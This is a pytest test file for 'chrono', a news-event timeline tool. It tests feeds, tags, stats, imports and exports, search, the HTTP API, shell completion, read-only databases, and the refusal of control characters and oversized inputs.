    seeded("feed", "add", "drones", "--tag", "drones", "--title", "Drones")
    out, _ = seeded("feed", "show", "drones")
    lines = dict(line.split(":", 1) for line in out.splitlines())
    assert lines["title"].strip() == "Drones" and lines["filter"].strip() == "events tagged drones"
    assert int(lines["events"]) == len(events_json(seeded, "--tag", "drones"))
    assert (
        lines["path"].strip()
        == "/feeds/drones.ics (.json, .timelinejs.json, .md, .svg, .html, .geojson, .timelinejs.csv, .mw, .yaml, .csv)"
    )
    seeded("feed", "show", "nope", code=3)


def test_feed_edit_changes_what_it_is_told_and_keeps_the_rest(seeded: Chrono) -> None:
    seeded("feed", "add", "putin", "--actor", "Putin", "--from", "2022", "--title", "Putin")
    _, err = seeded("feed", "edit", "putin", "--tag", "diplomacy", "--clear", "from")
    assert err == "feed putin: events with Putin tagged diplomacy\n"
    [feed] = json.loads(seeded("feed", "list", "--format", "json")[0])
    assert feed["title"] == "Putin" and feed["params"] == {"actor": ["Putin"], "tag": ["diplomacy"]}
    _, err = seeded("feed", "edit", "putin", "--tag", "diplomacy")
    assert err.endswith("(unchanged)\n")
    seeded("feed", "edit", "putin", "--title", "Putin's diplomacy", "--actor", "Iran")
    [feed] = json.loads(seeded("feed", "list", "--format", "json")[0])
    assert feed["title"] == "Putin's diplomacy" and feed["params"]["actor"] == ["Iran"]
    _, err = seeded("feed", "edit", "putin", "--clear", "colour", code=4)
    assert "cannot clear 'colour'" in err
    seeded("feed", "edit", "putin", "--from", "2024-13", code=4)
    seeded("feed", "edit", "nope", "--tag", "x", code=3)
    [after] = json.loads(seeded("feed", "list", "--format", "json")[0])
    assert after == feed


def test_feed_edit_clears_every_criterion_a_feed_keeps(seeded: Chrono) -> None:
    """Every parameter a saved feed keeps can be cleared, the later criteria (near, min, as-of) too."""
    from chrono.filters import CRITERIA

    seeded("feed", "add", "f", "--actor", "Putin", "--near", "50,30", "--km", "900", "--min", "dead=1")
    seeded("feed", "edit", "f", "--clear", "near", "--clear", "km", "--clear", "min")
    [feed] = json.loads(seeded("feed", "list", "--format", "json")[0])
    assert feed["params"] == {"actor": ["Putin"]}
    _, err = seeded("feed", "edit", "f", "--clear", "colour", code=4)
    assert err.rstrip().endswith(", ".join(row.param for row in CRITERIA if row.kept))


def test_tag_rename_merge_and_rm(seeded: Chrono) -> None:
    drones = {e["id"]: e["revision"] for e in events_json(seeded, "--tag", "drones")}
    _, err = seeded("tag", "rename", "drones", "Drones and missiles")
    assert err == "tag drones renamed to Drones and missiles\n"
    renamed = {e["id"]: e["revision"] for e in events_json(seeded, "--tag", "drones and missiles")}
    assert renamed == {i: r + 1 for i, r in drones.items()}  # subscribers see the new CATEGORIES
    assert events_json(seeded, "--tag", "drones") == []
    war = set(e["id"] for e in events_json(seeded, "--tag", "war"))
    seeded("tag", "merge", "war", "Drones and missiles")
    assert set(e["id"] for e in events_json(seeded, "--tag", "war")) == war | set(drones)
    _, err = seeded("tag", "merge", "war", "WAR", code=4)
    assert "the same tag" in err
    _, err = seeded("tag", "rm", "war", code=5)
    assert "use --force" in err
    seeded("tag", "rm", "war", "--force")
    assert events_json(seeded, "--tag", "war") == []
    seeded("tag", "rename", "nosuch", "x", code=3)


# --- 20. stats -----------------------------------------------------------------------------------------


def test_stats_sum_the_timeline_up(seeded: Chrono) -> None:
    events = events_json(seeded)
    data = json.loads(seeded("stats", "--format", "json")[0])
    assert data["events"] == len(events)
    assert sum(n for _, n in data["years"]) == len(events)
    assert dict(data["years"])["2024"] == len([e for e in events if str(e["start"]).startswith("2024")])
    assert data["actors"][0] == ["Russia", len(events_json(seeded, "--actor", "Russia"))]
    assert data["unsourced"] == len([e for e in events if not e["sources"]])
    assert data["imprecise"] == len([e for e in events if e["precision"] in ("year", "month")])
    assert data["first"] == "14 Jul 2015"
    drones = json.loads(seeded("stats", "--tag", "drones", "--format", "json")[0])
    assert drones["events"] == len(events_json(seeded, "--tag", "drones"))
    text, _ = seeded("stats")
    assert text.startswith(f"events:     {len(events)}\n") and "PER YEAR" in text and "█" in text


# --- 22. import from stdin -------------------------------------------------------------------------


def test_import_from_stdin(seeded: Chrono, tmp_path: Path) -> None:
    out, _ = seeded("list", "--format", "jsonl")
    other = Chrono(str(tmp_path / "other.db"))
    _, err = other("import", "-", "--format", "jsonl", input=out)
    assert err == "imported 1 file(s): 25 added, 0 updated, 0 unchanged\n"
    assert events_json(other) == events_json(seeded)
    _, err = other("import", "-", "--format", "yaml", input="- title: x\n  start: 2024-13\n", code=4)
    assert err == "chrono: error: <stdin>:2: bad date '2024-13': month must be 1..12\n"
    _, err = other("import", "-", code=4, input="")
    assert "needs --format" in err
    _, err = other("import", "-", "--format", "yaml", "--write-ids", code=4, input="")
    assert "cannot write ids back into stdin" in err


# --- 19 (part). removed events can be restored ------------------------------------------------------


def test_a_removed_event_can_be_restored(seeded: Chrono) -> None:
    [before] = events_json(seeded, "--search", "tehran summit")
    seeded("rm", before["id"], "--yes")
    _, err = seeded("restore", before["id"])
    assert err == f"{before['id']} restored\n"
    [after] = events_json(seeded, "--search", "tehran summit")
    assert after["revision"] == before["revision"] + 2  # removal, then return
    assert {k: v for k, v in after.items() if k not in ("revision", "updated")} == {
        k: v for k, v in before.items() if k not in ("revision", "updated")
    }
    assert "removed" not in json.loads(seeded("export", "json", "-o", "-")[0])
    _, err = seeded("restore", before["id"], code=5)
    assert "is not removed" in err
    seeded("restore", "no-such-id", code=3)


# --- 20. --search finds actors, tags and sources too -------------------------------------------------


def test_search_finds_actors_tags_and_sources(chrono: Chrono) -> None:
    chrono("add", "Mutiny", "--date", "2023-06-24", "--id", "m", "--actor", "Yevgeny Prigozhin",
           "--tag", "wagner-mutiny", "--source", "https://www.reuters.com/world/x", "--publisher", "Reuters",
           "--quote", "marched on Moscow")  # fmt: skip
    for words in ("Prigozhin", "wagner", "reuters", "marched moscow"):
        assert [e["id"] for e in events_json(chrono, "--search", words)] == ["m"], words
    chrono("actor", "rename", "Yevgeny Prigozhin", "Yevgeny Viktorovich Prigozhin")
    assert [e["id"] for e in events_json(chrono, "--search", "viktorovich")] == ["m"]
    chrono("tag", "rename", "wagner-mutiny", "june-rebellion")
    assert [e["id"] for e in events_json(chrono, "--search", "rebellion")] == ["m"]


# --- 13. control characters are refused at input; a huge bad value is never echoed whole ----------

ESC = "\x1b[2J"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["add", f"t {ESC}", "--date", "2024"], "title: control character U+001B"),
        (["add", "t", "--date", "2024", "--description", "ok\n\tfine\x07"], "description: control character U+0007"),
        (["add", "t", "--date", "2024", "--actor", "P\x9b2J"], "control character U+009B"),
        (["add", "t", "--date", "2024", "--location", "x\x08"], "location: control character U+0008"),
        (["actor", "rename", "Vladimir Putin", f"P {ESC}"], "control character U+001B"),
        (["actor", "alias", "Vladimir Putin", "P\x7f"], "alias: control character U+007F"),
        (["tag", "rename", "drones", f"d {ESC}"], "tag: control character U+001B"),
        (["feed", "add", "f", "--title", f"f {ESC}"], "title: control character U+001B"),
    ],
)  # fmt: skip
def test_control_characters_are_refused_on_the_command_line(
    seeded_sqlite: Chrono, args: list[str], message: str
) -> None:
    before = seeded_sqlite("list", "--format", "jsonl")[0]
    _, err = seeded_sqlite(*args, code=4)
    assert err.startswith("chrono: error: ") and message in err and err.count("\n") == 1, err
    assert seeded_sqlite("list", "--format", "jsonl")[0] == before


@pytest.mark.parametrize(
    ("name", "text", "where"),
    [
        ("e.json", json.dumps([{"title": "t", "start": "2024", "tags": [f"a{ESC}"]}]), ":1: tags:"),
        ("e.jsonl", json.dumps({"title": "t", "start": "2024", "description": "d\x1b]0;x\x07"}) + "\n",
         ":1: description:"),
        ("e.yaml", '- title: t\n  start: 2024\n  sources:\n    - url: https://a.example/\n'
         '      quote: "q \\e[31m"\n', ":5: sources[0].quote:"),
        ("e.csv", f"title,start,location\nt,2024,x{ESC}\n", ":2: location:"),
        ("e.ics", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//y//EN\r\nBEGIN:VEVENT\r\nUID:u1\r\n"
         f"DTSTART;VALUE=DATE:20240101\r\nSUMMARY:t{ESC}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", ":"),
    ],
)  # fmt: skip
def test_control_characters_are_refused_from_files(
    chrono: Chrono, tmp_path: Path, name: str, text: str, where: str
) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    _, err = chrono("import", str(path), code=4)
    assert err.startswith(f"chrono: error: {path}{where}"), err
    assert "control character U+" in err and err.count("\n") == 1
    assert chrono.stores_nothing()


def test_control_characters_are_refused_by_the_http_api(chrono: Chrono) -> None:
    import warnings

    from chrono.server import create_app

    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")
        from fastapi.testclient import TestClient

    chrono("add", "E", "--date", "2024", "--id", "e")
    with TestClient(create_app(chrono.db, token="t")) as client:
        auth = {"Authorization": "Bearer t"}
        for method, path, body in [
            ("POST", "/events", {"title": f"t {ESC}", "start": "2024"}),
            ("PATCH", "/events/e", {"location": f"x {ESC}"}),
        ]:
            response = client.request(method, path, json=body, headers=auth)
            assert response.status_code == 422, response.text
            assert "control character U+001B" in response.json()["error"]
        huge = client.get("/events/" + "x" * 5000)
        assert huge.status_code == 404 and len(huge.text) < 300
        response = client.post("/events", json={"title": "t", "start": "2024-" + "1" * 5000}, headers=auth)
        assert response.status_code == 422 and len(response.text) < 600, response.text
    assert [e["id"] for e in events_json(chrono)] == ["e"]


HUGE = "x" * 5000


@pytest.mark.parametrize(
    "args",
    [
        ["show", HUGE], ["list", "--actor", HUGE], ["list", "--from", HUGE], ["list", "--format", HUGE],
        ["list", "--limit", HUGE], ["add", "t", "--date", HUGE], ["add", "t", "--date", "2024", "--tz", HUGE],
        ["add", "t", "--date", "2024", "--role", HUGE], ["add", "t", "--date", "2024", "--source", HUGE],
        ["edit", HUGE, "--title", "x"], ["actor", "show", HUGE], ["tag", "rename", HUGE, "y"],
        ["feed", "show", HUGE], ["feed", "add", HUGE], ["export", HUGE], ["import", HUGE],
        ["db", "copy", HUGE, "x.db"],
    ],
)  # fmt: skip
def test_a_huge_bad_value_is_never_echoed_whole(seeded_sqlite: Chrono, args: list[str]) -> None:
    from chrono.cli import app

    result = seeded_sqlite.runner.invoke(app, [*args, "--db", seeded_sqlite.db])
    err = result.stderr
    assert result.exit_code != 0 or "no events match" in err
    assert err.startswith(("chrono: error: ", "note: ")) and len(err) < 400, err[:500]
    assert "Traceback" not in err and "unexpected" not in err


# --- 9. actor_details and file-level fields say where; the zone hint says what this door offers ----


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("a.yaml", "actor_details:\n  - name: A\n  - name: B\n    kind: planet\nevents:\n  - title: t\n    start: 2024\n",
         "a.yaml:3: bad actor kind 'planet'"),
        ("a.json", json.dumps({"actor_details": [{"name": "A"}, {"name": ""}], "events": [{"title": "t", "start": "2024"}]}),
         "a.json: actor_details[1]: empty actor name"),
        ("a.yaml", "tags: [a, '']\nevents:\n  - title: t\n    start: 2024\n", "a.yaml:1: empty tag"),
        ("z.yaml", "- title: t\n  start: 2024-03-05T09:00\n",
         "z.yaml:2: time '2024-03-05T09:00' needs a time zone: add an offset (2024-03-05T09:00-05:00) or --tz "
         "ZONE, or timezone: ZONE in the event or at the top of the file"),
        ("z.csv", "title,start\nt,2024-03-05T09:00\n", "z.csv:2: time '2024-03-05T09:00' needs a time zone: add an "
         "offset (2024-03-05T09:00-05:00) or --tz ZONE, or a timezone column"),
        ("z.jsonl", '{"title": "t", "start": "2024-03-05T09:00"}\n', "z.jsonl:1: time '2024-03-05T09:00' needs a "
         'time zone: add an offset (2024-03-05T09:00-05:00) or --tz ZONE, or a "timezone" member in the line'),
    ],
)  # fmt: skip
def test_file_level_errors_say_where(
    chrono_sqlite: Chrono, tmp_path: Path, name: str, text: str, message: str
) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    _, err = chrono_sqlite("import", str(path), code=4)
    assert err.startswith(f"chrono: error: {tmp_path}/{message}") and err.count("\n") == 1, err
    assert chrono_sqlite.stores_nothing()
    if name == "z.yaml":  # both fixes the message offers work
        chrono_sqlite("import", "--dry-run", "--tz", "Europe/Kyiv", str(path))
        path.write_text(
            "timezone: Europe/Kyiv\nevents:\n" + text.replace("- ", "  - ").replace("\n  s", "\n    s")
        )
        chrono_sqlite("import", str(path))


# --- 20. --source: the events citing a publisher or a web domain ---------------------------------


def test_source_filter_in_list_feeds_and_the_api(seeded: Chrono) -> None:
    import warnings

    from chrono.server import create_app

    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")
        from fastapi.testclient import TestClient

    citing = [
        e["id"]
        for e in events_json(seeded)
        if any(
            "iranintl.com" in (s["url"] or "") or s["publisher"] == "Iran International" for s in e["sources"]
        )
    ]
    assert citing
    assert [e["id"] for e in events_json(seeded, "--source", "Iran International")] == citing
    assert [e["id"] for e in events_json(seeded, "--source", "iranintl.com")] == citing
    assert events_json(seeded, "--source", "iranintl.com", "--source", "nowhere.example") == []
    _, err = seeded("feed", "add", "ii", "--source", "iranintl.com")
    assert "events citing iranintl.com" in err
    with TestClient(create_app(seeded.db)) as client:
        assert [e["id"] for e in client.get("/feeds/ii.json").json()["events"]] == citing
        assert client.get("/events", params={"source": "iranintl"}).json()["total"] == len(citing)


# --- 22. export yaml and export csv: the whole database as event files, read back exactly -------


@pytest.mark.parametrize("fmt", ["yaml", "csv"])
def test_export_as_event_files_round_trips(seeded: Chrono, tmp_path: Path, fmt: str) -> None:
    import yaml

    seeded(
        "add", "A draft", "--date", "2024-05", "--status", "draft", "--id", "d",
        "--description", "line one\nline two: with a colon\n\n- not a list",
    )  # fmt: skip
    path = tmp_path / f"all.{fmt}"
    _, err = seeded("export", fmt, "-o", str(path))
    everything = events_json(seeded)
    assert err == f"wrote {len(everything)} event(s) to {path}\n"  # drafts too: data, not a publication
    if fmt == "yaml":
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        assert [e["id"] for e in data["events"]] == [e["id"] for e in everything]
        assert "description: |-\n      line one\n      line two" in path.read_text(encoding="utf-8")
    else:
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        assert [r["id"] for r in rows] == [e["id"] for e in everything]
    _, err = seeded("import", str(path))
    assert err.startswith(f"imported 1 file(s): 0 added, 0 updated, {len(everything)} unchanged")
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(path))
    assert events_json(fresh) == everything  # every field, stamps and revisions included
    again = tmp_path / f"again.{fmt}"
    fresh("export", fmt, "-o", str(again))
    assert again.read_bytes() == path.read_bytes()


def test_the_server_s_event_files_leave_drafts_out(seeded_sqlite: Chrono) -> None:
    import warnings

    from chrono.server import create_app

    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")
        from fastapi.testclient import TestClient

    seeded_sqlite("add", "Unpublished", "--date", "2024", "--status", "draft", "--id", "secret")
    with TestClient(create_app(seeded_sqlite.db)) as client:
        for path, media in (("/timeline.yaml", "application/yaml"), ("/timeline.csv", "text/csv")):
            response = client.get(path)
            assert response.status_code == 200 and response.headers["content-type"].startswith(media)
            assert "secret" not in response.text and "putin-visits-tehran" in response.text


# --- 22. shell completion ---------------------------------------------------------------------------


def test_shell_completion_installs_and_completes(tmp_path: Path) -> None:
    """`chrono --install-completion`, typed in bash, writes a script that bash sources, and that script completes
    commands, subcommands and choices by asking chrono itself."""
    import os
    import shutil
    import subprocess
    import sys

    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("no bash here")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    wrapper = bin_dir / "chrono"
    wrapper.write_text(f'#!/bin/sh\nexec {sys.executable} -m chrono "$@"\n')
    wrapper.chmod(0o755)
    env = {**os.environ, "HOME": str(tmp_path), "SHELL": bash, "PATH": f"{bin_dir}:{os.environ['PATH']}"}
    env["PYTHONPATH"] = str(ROOT / "src")
    # run from bash, as a user types it: the shell is found from the process that runs chrono
    typed = f"{wrapper} --install-completion; exit $?"  # (a second command: bash does not exec the first)
    done = subprocess.run([bash, "-c", typed], env=env, capture_output=True, text=True)
    assert done.returncode == 0 and "bash completion installed" in done.stdout + done.stderr, done
    script = tmp_path / ".bash_completions" / "chrono.sh"
    assert script.exists() and str(script) in (tmp_path / ".bashrc").read_text()

    def complete(*words: str) -> list[str]:
        line = " ".join(f"'{w}'" for w in words)
        probe = f'source "{script}"; COMP_WORDS=({line}); COMP_CWORD={len(words) - 1}; '
        probe += '_chrono_completion chrono; printf "%s\\n" "${COMPREPLY[@]}"'
        result = subprocess.run([bash, "-c", probe], env=env, capture_output=True, text=True, check=True)
        return result.stdout.split()

    assert complete("chrono", "ex") == ["export", "extract"]
    assert "rm" in complete("chrono", "actor", "")
    assert "yaml" in complete("chrono", "export", "")
    assert complete("chrono", "list", "--wi") == ["--within"]


# --- 8. a database in a read-only folder can be read; writes there say why they fail -------------


def _in_read_only_folder(folder: Path, commands: list[list[str]]) -> list[tuple[int, str, str]]:
    """Run chrono commands with `folder` read-only: by its permissions for an ordinary user, by a
    read-only bind mount in a private mount namespace for root (whom permissions do not stop)."""
    import os
    import shlex
    import shutil
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "COLUMNS": "200"}
    base = [sys.executable, "-m", "chrono"]
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            done = [subprocess.run([*base, *c], env=env, capture_output=True, text=True) for c in commands]
        finally:
            folder.chmod(0o755)
        return [(d.returncode, d.stdout, d.stderr) for d in done]
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("root, and no unshare to make a read-only mount")
    quoted = shlex.quote(str(folder))
    script = f"mount --bind {quoted} {quoted} && mount -o remount,ro,bind {quoted} || exit 99\n"
    for number, command in enumerate(commands):
        words = " ".join(shlex.quote(w) for w in [*base, *command])
        script += f'{words} > "$OUT/{number}.out" 2> "$OUT/{number}.err"; echo $? > "$OUT/{number}.rc"\n'
    out = folder.parent / "out"
    out.mkdir()
    ran = subprocess.run(
        [unshare, "-rm", "sh", "-c", script], env={**env, "OUT": str(out)}, capture_output=True
    )
    if ran.returncode == 99 or not (out / "0.rc").exists():
        pytest.skip(f"cannot make a read-only mount here: {ran.stderr.decode().strip()}")
    return [
        (int((out / f"{n}.rc").read_text()), (out / f"{n}.out").read_text(), (out / f"{n}.err").read_text())
        for n in range(len(commands))
    ]


@pytest.mark.parametrize("closed", [True, False], ids=["closed cleanly", "with its -wal and -shm"])
def test_a_database_in_a_read_only_folder_is_read(tmp_path: Path, closed: bool) -> None:
    import os
    import subprocess
    import sys

    folder = tmp_path / "ro"
    folder.mkdir()
    db = str(folder / "news.db")
    writable = Chrono(db)
    if closed:  # a process that ends checkpoints: everything is in the file, no -wal, no -shm
        env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
        command = [sys.executable, "-m", "chrono", "import", str(ROOT / "events"), "--db", db]
        subprocess.run(command, env=env, check=True, capture_output=True)
    else:  # as a writer left it open: a -wal with frames in it, and the -shm
        import sqlite3

        writable("import", str(ROOT / "events"))
        holder = sqlite3.connect(db, isolation_level=None)
        holder.execute("PRAGMA wal_autocheckpoint = 0")
        holder.execute("UPDATE meta SET value = value WHERE key = 'schema_version'")  # a frame, same data
    expected, _ = writable("list", "--format", "ids")
    assert (folder / "news.db-wal").exists() is not closed
    files = sorted(p.name for p in folder.iterdir())
    runs = _in_read_only_folder(
        folder,
        [
            ["list", "--format", "ids", "--db", db],
            ["show", "putin-visits-tehran", "--db", db],
            ["db", "info", "--db", db],
            ["add", "New", "--date", "2024", "--db", db],
            ["export", "json", "--db", db, "-o", str(folder / "out.json")],
        ],
    )
    (lists, shows, info, add, export) = runs
    assert lists == (0, expected, "")
    assert shows[0] == 0 and shows[1].startswith("Putin visits Tehran\n")
    assert info[0] == 0 and "events:    25" in info[1]
    assert add[0] == 1 and add[1] == "" and add[2].count("\n") == 1
    assert f"its folder {folder} is read-only (reads work" in add[2], add[2]
    assert export == (1, "", f"chrono: error: cannot write {folder}/out.json: Read-only file system\n") or (
        export[0] == 1 and export[2].startswith(f"chrono: error: cannot write {folder}/out.json: ")
    ), export
    assert sorted(p.name for p in folder.iterdir()) == files  # nothing was written there
    assert writable("list", "--format", "ids")[0] == expected
    if not closed:
        holder.close()


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('[\n  {"title": "a", "start": "2024"},\n  {"title": "b",\n   "start": "2024-13"}\n]\n', 3),
        ('{"title": "T", "events": [\n  {"title": "a", "start": "2024"},\n\n'
         '  {"title": "b\\"[{", "start": "2024-13", "tags": [{"x": 1}]}\n]}\n', 4),
    ],
)  # fmt: skip
def test_json_errors_give_the_event_s_line(
    chrono_sqlite: Chrono, tmp_path: Path, text: str, line: int
) -> None:
    path = tmp_path / "broken.json"
    path.write_text(text, encoding="utf-8")
    _, err = chrono_sqlite("import", str(path), code=4)
    assert err.startswith(f"chrono: error: {path}:{line}: bad date '2024-13'"), err
